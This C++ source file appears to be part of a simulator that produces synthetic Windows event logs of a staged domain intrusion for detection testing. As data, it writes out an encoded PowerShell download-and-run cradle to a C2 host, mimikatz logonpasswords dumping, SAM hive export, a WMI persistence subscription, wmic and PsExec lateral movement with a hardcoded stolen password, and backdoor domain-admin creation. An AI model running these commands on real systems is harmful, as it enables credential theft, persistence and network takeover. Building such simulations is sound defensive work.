// demo_attack.cpp — the intrusion (examples/demo/README.md, "Timeline"): a macro lure on mbrown's
// WKS-07 drops an implant, which dumps the helpdesk admin's cached credentials and moves
// laterally with wmic, renamed PsExec, an smbexec-style service, Impacket wmiexec and atexec,
// PowerShell WMI/CIM remoting, and leaves a WMI event subscription for persistence.
#include "sim/demo/demo_parts.hpp"

namespace sim::demo {

namespace {

constexpr const char* kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr const char* kWmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
constexpr const char* kWmiPrvSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
constexpr const char* kPowerShell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr const char* kSvchost = "C:\\Windows\\System32\\svchost.exe";
constexpr const char* kStolen = "adm-lchen";
constexpr const char* kStolenPassword = "Autumn2026!";

struct Attacker {
  Recorder& rec;
  const Org& org;
  const Host& wks;  // WKS-07
  std::string user = std::string(kDomain) + "\\" + kVictim;
  int implant_pid = 0;
  std::string implant_logon = "0x5a3f21";

  // implant_child runs a command from the implant on WKS-07 and returns its pid.
  int implant_child(Ms t, const std::string& image, const std::string& command_line) {
    Proc p{image, command_line, implant_tool().path, "\"" + implant_tool().path + "\"", user};
    p.parent_pid = implant_pid;
    p.integrity = "High";
    p.logon_id = implant_logon;
    return rec.process(wks, t, p);
  }

  // inbound_rpc is the target's view of a DCOM/WMI connection from WKS-07 and the logons it
  // brings (network logon, then WmiPrvSE logging the user on); returns the network logon id.
  std::string inbound_rpc(const Host& target, Ms t, int port = 135) {
    rec.network(
        target, t,
        {kSvchost, "NT AUTHORITY\\NETWORK SERVICE", wks.ip, 0, target.ip, "", port, false, 1012});
    const std::string id =
        rec.logon(target, t + 80, {kStolen, kDomain, 3, wks.ip, wks.name, "-", "NTLM", true});
    rec.logon(target, t + 400, {kStolen, kDomain, 3, wks.ip, wks.name, kWmiPrvSE, "NTLM", false});
    return id;
  }

  // wmi_child starts a process under WmiPrvSE on the target as the stolen account.
  int wmi_child(const Host& target, Ms t, const std::string& image, const std::string& cmd,
                const std::string& logon_id) {
    Proc p{image, cmd, kWmiPrvSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
           std::string(kDomain) + "\\" + kStolen};
    p.integrity = "High";
    p.logon_id = logon_id;
    return rec.process(target, t, p);
  }
};

void initial_access(Attacker& a) {
  Recorder& rec = a.rec;
  const Host& wks = a.wks;
  const Ms t = at(20, 13, 2, 10);
  Proc word{"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
            "\"C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
            "7QH2K1ZP\\Invoice_4471.docm\" /o \"\"",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", a.user};
  const int word_pid = rec.process(wks, t, word);
  const std::string download =
      "$u='" + std::string(kLureUrl) +
      "';$p=\"$env:LOCALAPPDATA\\Microsoft\\OneDrive\\OneDriveUpdater.exe\";"
      "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p";
  Proc ps{kPowerShell,
          "powershell.exe -nop -w hidden -enc "
          "JAB1AD0AJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBhAGMAbQBlAC0AYwBsAG8AdQBkAHMAeQBuAGMALgBjAG8A"
          "bQAvAHUAcABkAGEAdABlAC8AbwBkAC4AYgBpAG4AJwA=",
          word.image, word.command_line, a.user};
  ps.parent_pid = word_pid;
  const int ps_pid = rec.process(wks, t + 31 * kSecond, ps);
  rec.script_block(wks, t + 32 * kSecond, download);
  rec.network(wks, t + 33 * kSecond,
              {kPowerShell, a.user, wks.ip, 0, kC2Ip, kC2Domain, 443, true, ps_pid});
  rec.file_created(wks, t + 35 * kSecond, kPowerShell, ps_pid, implant_tool().path, a.user);
  Proc implant{implant_tool().path, "\"" + implant_tool().path + "\"", kPowerShell, ps.command_line,
               a.user};
  implant.original_file_name = implant_tool().original_file_name;
  implant.hashes = implant_tool().hashes;
  implant.parent_pid = ps_pid;
  implant.logon_id = a.implant_logon;
  a.implant_pid = rec.process(wks, t + 37 * kSecond, implant);
  // Beacons every five minutes until the end of the data.
  for (Ms b = t + 40 * kSecond; b < at(20, 18, 0); b += 5 * kMinute + rec.below(20) * kSecond) {
    rec.network(
        wks, b,
        {implant_tool().path, a.user, wks.ip, 0, kC2Ip, kC2Domain, 443, true, a.implant_pid});
  }
}

void recon_and_credentials(Attacker& a) {
  const Ms t = at(20, 13, 20, 4);
  const char* recon[] = {"cmd.exe /c whoami /all", "cmd.exe /c net group \"Domain Admins\" /domain",
                         "cmd.exe /c nltest /dclist:corp.acme.local",
                         "cmd.exe /c net view /domain"};
  Ms r = t;
  for (const char* command : recon) {
    a.implant_child(r, kCmd, command);
    r += 40 * kSecond + a.rec.below(30) * kSecond;
  }
  // Tools staged by the implant, then the credential dump that yields adm-lchen's password
  // (cached since the helpdesk session on Thursday).
  const Ms s = at(20, 13, 31, 12);
  for (const Tool* tool : {&mimikatz_tool(), &renamed_psexec_tool()}) {
    a.rec.file_created(a.wks, s, implant_tool().path, a.implant_pid, tool->path, a.user);
  }
  Proc dump{mimikatz_tool().path,
            mimikatz_tool().path + " \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
            implant_tool().path, "\"" + implant_tool().path + "\"", a.user};
  dump.original_file_name = mimikatz_tool().original_file_name;
  dump.hashes = mimikatz_tool().hashes;
  dump.parent_pid = a.implant_pid;
  dump.integrity = "High";
  a.rec.process(a.wks, at(20, 13, 35, 40), dump);
}

void wmi_persistence(Attacker& a) {
  const Ms t = at(20, 13, 50, 2);
  const std::string name = "OneDriveSync";
  const std::string query =
      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
      "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240";
  const std::string command = implant_tool().path + " -s";
  a.implant_child(t, kPowerShell,
                  "powershell.exe -nop -w hidden -c \"Set-WmiInstance -Namespace "
                  "root\\subscription -Class __EventFilter -Arguments @{Name='" +
                      name + "'}\"");
  a.rec.script_block(a.wks, t + 500,
                     "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter "
                     "-Arguments @{Name='" +
                         name +
                         "';EventNamespace='root\\cimv2';QueryLanguage="
                         "'WQL';Query=\"" +
                         query +
                         "\"}\n$c = Set-WmiInstance -Namespace "
                         "root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='" +
                         name + "';CommandLineTemplate='" + command +
                         "'}\nSet-WmiInstance -Namespace root\\subscription -Class "
                         "__FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}");
  a.rec.wmi_subscription(a.wks, t + 900, a.user, name, query, command);
}

// wmic_fan_out: five workstations in five minutes, each with a different payload.
void wmic_fan_out(Attacker& a) {
  struct Hop {
    const char* target;
    const char* image;
    const char* payload;
  };
  const Hop hops[] = {
      {"WKS-12", kCmd,
       "cmd.exe /c net user support_tmp Sup9ort!2026 /add && net localgroup administrators "
       "support_tmp /add"},
      {"WKS-15", kCmd, "cmd.exe /c whoami /all > C:\\Windows\\Temp\\w.txt"},
      {"WKS-21", kPowerShell,
       "powershell.exe -nop -w hidden -c \"IEX (New-Object "
       "Net.WebClient).DownloadString('https://cdn.acme-cloudsync.com/a.ps1')\""},
      {"WKS-23", kCmd,
       "cmd.exe /c reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv && reg save HKLM\\SYSTEM "
       "C:\\Windows\\Temp\\y.hiv"},
      {"WKS-30", kCmd, "cmd.exe /c tasklist /v > C:\\Windows\\Temp\\t.txt"},
  };
  Ms t = at(20, 14, 2, 7);
  for (const Hop& hop : hops) {
    const Host& target = a.org.host(hop.target);
    const std::string wmic_args = std::string("/node:") + hop.target + " /user:CORP\\" + kStolen +
                                  " /password:" + kStolenPassword + " process call create \"" +
                                  hop.payload + "\"";
    const std::string cmd_line = "cmd.exe /c wmic " + wmic_args;
    const int cmd_pid = a.implant_child(t, kCmd, cmd_line);
    Proc wmic{kWmic, "wmic  " + wmic_args, kCmd, cmd_line, a.user};
    wmic.parent_pid = cmd_pid;
    wmic.integrity = "High";
    wmic.logon_id = a.implant_logon;
    const int wmic_pid = a.rec.process(a.wks, t + 300, wmic);
    a.rec.explicit_credentials(a.wks, t + 450, kVictim, a.implant_logon, kStolen, hop.target,
                               std::string("RPCSS/") + hop.target, kWmic, wmic_pid);
    a.rec.network(a.wks, t + 500,
                  {kWmic, a.user, a.wks.ip, 0, target.ip, target.fqdn(), 135, true, wmic_pid});
    const std::string logon = a.inbound_rpc(target, t + 550);
    const int child = a.wmi_child(target, t + 1200, hop.image, hop.payload, logon);
    if (std::string(hop.target) == "WKS-12") {
      Proc net{"C:\\Windows\\System32\\net.exe", "net  user support_tmp Sup9ort!2026 /add", kCmd,
               hop.payload, std::string(kDomain) + "\\" + kStolen};
      net.parent_pid = child;
      net.integrity = "High";
      net.logon_id = logon;
      a.rec.process(target, t + 1500, net);
    }
    t += 55 * kSecond + a.rec.below(15) * kSecond;
  }
}

// server_hops: smbexec-style service and renamed PsExec on FS01, PSEXESVC on SQL01.
void server_hops(Attacker& a) {
  Recorder& rec = a.rec;
  const Host& fs = a.org.host("FS01");
  const Host& sql = a.org.host("SQL01");

  // 14:10 FS01: Impacket smbexec through the implant's SOCKS proxy (random 8-letter service,
  // %COMSPEC% ImagePath writing execute.bat and \\127.0.0.1\C$\__output).
  const Ms t = at(20, 14, 10, 18);
  rec.network(fs, t, {"System", kSystemUser, a.wks.ip, 0, fs.ip, "", 445, false, 4});
  const std::string logon =
      rec.logon(fs, t + 60, {kStolen, kDomain, 3, a.wks.ip, "-", "-", "NTLM", true});
  rec.share_access(fs, t + 120, kStolen, a.wks.ip, "IPC$", logon);
  rec.share_file(fs, t + 150, kStolen, a.wks.ip, "IPC$", "svcctl", "0x12019f", logon);
  const std::string bat_cmd =
      "%COMSPEC% /Q /c echo net group \"Domain Admins\" /domain ^> \\\\127.0.0.1\\C$\\__output "
      "2^>^&1 > %SYSTEMROOT%\\execute.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\execute.bat & del "
      "%SYSTEMROOT%\\execute.bat";
  rec.service_installed(fs, t + 220, "kWvTqRxZ", bat_cmd, kStolen, logon, true);
  std::string expanded = bat_cmd;
  for (const auto& [from, to] :
       {std::pair<std::string, std::string>{"%COMSPEC%", kCmd}, {"%SYSTEMROOT%", "C:\\Windows"}}) {
    for (auto pos = expanded.find(from); pos != std::string::npos; pos = expanded.find(from)) {
      expanded.replace(pos, from.size(), to);
    }
  }
  Proc shell{kCmd, expanded, "C:\\Windows\\System32\\services.exe",
             "C:\\Windows\\system32\\services.exe"};
  shell.parent_pid = 684;
  const int shell_pid = rec.process(fs, t + 400, shell);
  rec.file_created(fs, t + 450, kCmd, shell_pid, "C:\\Windows\\execute.bat");
  rec.file_created(fs, t + 900, "System", 4, "C:\\__output");

  // 14:14 FS01: renamed PsExec (-r) copying mimikatz (-c) and running it as SYSTEM.
  PsexecRun fs_run;
  fs_run.source = &a.wks;
  fs_run.target = &fs;
  fs_run.client_user = a.user;
  fs_run.client_parent_image = implant_tool().path;
  fs_run.client_parent_command_line = "\"" + implant_tool().path + "\"";
  fs_run.client = &renamed_psexec_tool();
  fs_run.client_command_line =
      "C:\\ProgramData\\Intel\\msupd.exe \\\\FS01 -accepteula -u CORP\\adm-lchen -p " +
      std::string(kStolenPassword) +
      " -r PzQnRvLk -s -c C:\\ProgramData\\Intel\\mm.exe \"privilege::debug\" "
      "\"sekurlsa::logonpasswords\" exit";
  fs_run.account = kStolen;
  fs_run.auth = "NTLM";
  fs_run.explicit_credentials = true;
  fs_run.service = "PzQnRvLk";
  fs_run.copied = &mimikatz_tool();
  fs_run.remote_command_line = "mm.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit";
  psexec_run(rec, at(20, 14, 14, 2), fs_run);

  // 14:20 SQL01: PSEXESVC, creating a backdoor domain admin.
  PsexecRun sql_run = fs_run;
  sql_run.target = &sql;
  sql_run.client_command_line =
      "C:\\ProgramData\\Intel\\msupd.exe \\\\SQL01 -accepteula -u CORP\\adm-lchen -p " +
      std::string(kStolenPassword) +
      " -s cmd /c \"net user helpdesk_svc Winter2026!x /add /domain && net group \"Domain "
      "Admins\" helpdesk_svc /add /domain\"";
  sql_run.service = "PSEXESVC";
  sql_run.copied = nullptr;
  sql_run.remote_image = kCmd;
  sql_run.remote_command_line =
      "cmd /c \"net user helpdesk_svc Winter2026!x /add /domain && net group \"Domain Admins\" "
      "helpdesk_svc /add /domain\"";
  psexec_run(rec, at(20, 14, 20, 41), sql_run);
}

// impacket_hops: wmiexec on WKS-19 and atexec on WKS-23, via the implant's SOCKS proxy.
void impacket_hops(Attacker& a) {
  Recorder& rec = a.rec;
  const Host& w19 = a.org.host("WKS-19");
  const Ms t = at(20, 14, 30, 9);
  const std::string logon = a.inbound_rpc(w19, t);
  const std::string output = "\\\\127.0.0.1\\ADMIN$\\__" + std::to_string(t / 1000) + ".4512";
  a.wmi_child(w19, t + 900, kCmd, "cmd.exe /Q /c cd \\ 1> " + output + " 2>&1", logon);
  rec.file_created(w19, t + 950, "System", 4,
                   "C:\\Windows\\__" + std::to_string(t / 1000) + ".4512");
  // Some pipelines keep command lines HTML-escaped (detections.md §7): this one arrives so.
  a.wmi_child(w19, t + 20 * kSecond, kCmd,
              "cmd.exe /Q /c whoami /priv 1&gt; " + output + " 2&gt;&amp;1", logon);

  const Host& w23 = a.org.host("WKS-23");
  const Ms u = at(20, 14, 35, 47);
  rec.network(w23, u, {"System", kSystemUser, a.wks.ip, 0, w23.ip, "", 445, false, 4});
  const std::string logon23 =
      rec.logon(w23, u + 60, {kStolen, kDomain, 3, a.wks.ip, "-", "-", "NTLM", true});
  rec.share_access(w23, u + 120, kStolen, a.wks.ip, "IPC$", logon23);
  rec.share_file(w23, u + 150, kStolen, a.wks.ip, "IPC$", "atsvc", "0x12019f", logon23);
  Proc task{kCmd, "cmd.exe /C tasklist /v > C:\\Windows\\Temp\\XcVbNmQw.tmp 2>&1", kSvchost,
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"};
  task.parent_pid = 1388;
  rec.process(w23, u + 2 * kSecond, task);
}

// powershell_remoting: Invoke-WmiMethod against WKS-25 and Invoke-CimMethod against WKS-28.
void powershell_remoting(Attacker& a) {
  Recorder& rec = a.rec;
  const Ms t = at(20, 14, 40, 30);
  const int ps_pid = a.implant_child(t, kPowerShell, "powershell.exe -nop -w hidden -ep bypass");
  const std::string cred = "$c = New-Object System.Management.Automation.PSCredential('CORP\\" +
                           std::string(kStolen) + "', (ConvertTo-SecureString '" + kStolenPassword +
                           "' -AsPlainText -Force))\n";
  rec.script_block(a.wks, t + 2 * kSecond,
                   cred +
                       "Invoke-WmiMethod -ComputerName WKS-25 -Class Win32_Process -Name Create "
                       "-ArgumentList 'cmd.exe /c net localgroup administrators > "
                       "C:\\Windows\\Temp\\la.txt' -Credential $c");
  const Host& w25 = a.org.host("WKS-25");
  rec.network(a.wks, t + 3 * kSecond,
              {kPowerShell, a.user, a.wks.ip, 0, w25.ip, w25.fqdn(), 135, true, ps_pid});
  const std::string l25 = a.inbound_rpc(w25, t + 3 * kSecond + 50);
  a.wmi_child(w25, t + 4 * kSecond, kCmd,
              "cmd.exe /c net localgroup administrators > C:\\Windows\\Temp\\la.txt", l25);

  const Ms u = t + 95 * kSecond;
  rec.script_block(
      a.wks, u,
      cred +
          "$s = New-CimSession -ComputerName WKS-28 -Credential $c\n"
          "Invoke-CimMethod -CimSession $s -ClassName Win32_Process -MethodName Create "
          "-Arguments @{CommandLine='powershell.exe -nop -w hidden -c \"Get-Process "
          "lsass | Select-Object Id\"'}");
  const Host& w28 = a.org.host("WKS-28");
  rec.network(a.wks, u + kSecond,
              {kPowerShell, a.user, a.wks.ip, 0, w28.ip, w28.fqdn(), 5985, true, ps_pid});
  const std::string l28 = a.inbound_rpc(w28, u + kSecond + 50, 5985);
  a.wmi_child(w28, u + 2 * kSecond, kPowerShell,
              "powershell.exe -nop -w hidden -c \"Get-Process lsass | Select-Object Id\"", l28);
}

}  // namespace

void add_intrusion(Recorder& rec, const Org& org) {
  // Thursday: the helpdesk admin fixes Outlook on WKS-07 interactively, leaving cached
  // credentials behind.
  const Host& wks = org.host("WKS-07");
  rec.logon(wks, at(19, 11, 20, 3),
            {kStolen, kDomain, 2, "127.0.0.1", wks.name, kSvchost, "Negotiate", true});
  Attacker a{rec, org, wks};
  initial_access(a);
  recon_and_credentials(a);
  wmi_persistence(a);
  wmic_fan_out(a);
  server_hops(a);
  impacket_hops(a);
  powershell_remoting(a);
}

}  // namespace sim::demo
